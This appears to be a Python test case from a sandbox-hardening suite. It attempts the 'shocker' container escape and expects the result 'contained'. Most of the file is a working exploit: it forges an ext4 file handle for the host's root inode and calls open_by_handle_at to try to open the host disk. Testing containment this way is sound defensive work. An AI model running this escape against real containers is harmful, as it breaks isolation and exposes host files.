# attack: the "shocker" escape: name_to_handle_at on a bind mount, then open_by_handle_at with a forged handle for the filesystem's root inode
# category: escape
# expect: status=200 result="contained"
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_name_to_handle_at, SYS_open_by_handle_at = 303, 304
AT_FDCWD = -100


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint32), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_uint8 * 128)]


def main():
    breaches = []
    L = ctypes.c_long
    for path in (b"/venv", b"/usr", b"/tmp"):
        handle = FileHandle(128)
        mount_id = ctypes.c_int()
        ctypes.set_errno(0)
        rc = libc.syscall(L(SYS_name_to_handle_at), L(AT_FDCWD), ctypes.c_char_p(path), ctypes.byref(handle),
                          ctypes.byref(mount_id), L(0))
        if rc == 0:
            breaches.append("name_to_handle_at(%s) succeeded" % path.decode())
        elif ctypes.get_errno() != errno.EPERM:
            breaches.append("name_to_handle_at(%s) got past the filter: %s" % (path.decode(), errno.errorcode.get(ctypes.get_errno())))
    # A forged ext4 handle for inode 2 (the root of the host's disk), generation 0: FILEID_INO32_GEN.
    forged = FileHandle(8, 1)
    ctypes.c_uint32.from_buffer(forged.f_handle, 0).value = 2
    mount_fd = os.open("/venv", os.O_RDONLY)
    ctypes.set_errno(0)
    fd = libc.syscall(L(SYS_open_by_handle_at), L(mount_fd), ctypes.byref(forged), L(os.O_RDONLY))
    if fd >= 0:
        breaches.append("open_by_handle_at opened the disk's root: %r" % os.listdir(fd))
    elif ctypes.get_errno() != errno.EPERM:
        breaches.append("open_by_handle_at got past the filter: %s" % errno.errorcode.get(ctypes.get_errno()))
    os.close(mount_fd)
    return breaches or "contained"
